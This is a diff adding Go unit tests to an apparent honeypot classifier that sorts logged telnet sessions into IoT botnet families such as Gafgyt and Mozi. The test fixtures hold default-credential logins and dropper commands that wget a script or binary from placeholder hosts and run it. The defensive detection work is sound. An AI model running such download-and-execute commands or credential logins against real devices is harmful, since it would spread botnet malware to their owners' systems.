@@ -98,3 +98,42 @@ func TestObserveReportsChangesOnly(t *testing.T) {
 		t.Error("the same rule counted twice")
 	}
 }
+
+func TestGafgyt(t *testing.T) {
+	tr := Default().NewTracker()
+	observeAll(tr,
+		Observation{Login: true, Username: "root", Password: "root"},
+		Observation{Input: `/bin/busybox;echo -e '\147\141\171\146\147\164'`},
+		Observation{Input: "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.10/bins.sh; chmod 777 bins.sh; sh bins.sh"},
+	)
+	if tr.Family() != "gafgyt" {
+		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
+	}
+}
+
+func TestMozi(t *testing.T) {
+	tr := Default().NewTracker()
+	observeAll(tr,
+		Observation{Login: true, Username: "admin", Password: "admin"},
+		Observation{Input: "/bin/busybox wget http://192.0.2.11:44411/Mozi.m -O /tmp/netgear; sh /tmp/netgear"},
+		Observation{URL: "http://192.0.2.11:44411/Mozi.m"},
+	)
+	if tr.Family() != "mozi" {
+		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
+	}
+}
+
+// A session that only logs in with a credential outside every table and
+// runs ordinary commands stays unknown.
+func TestUnknownStaysUnknown(t *testing.T) {
+	tr := Default().NewTracker()
+	observeAll(tr,
+		Observation{Port: 23},
+		Observation{Login: true, Username: "operator", Password: "s3cret"},
+		Observation{Input: "uname -a; cat /proc/cpuinfo"},
+		Observation{URL: "http://192.0.2.12/update.sh"},
+	)
+	if tr.Family() != Unknown || tr.Reasons() != nil {
+		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
+	}
+}
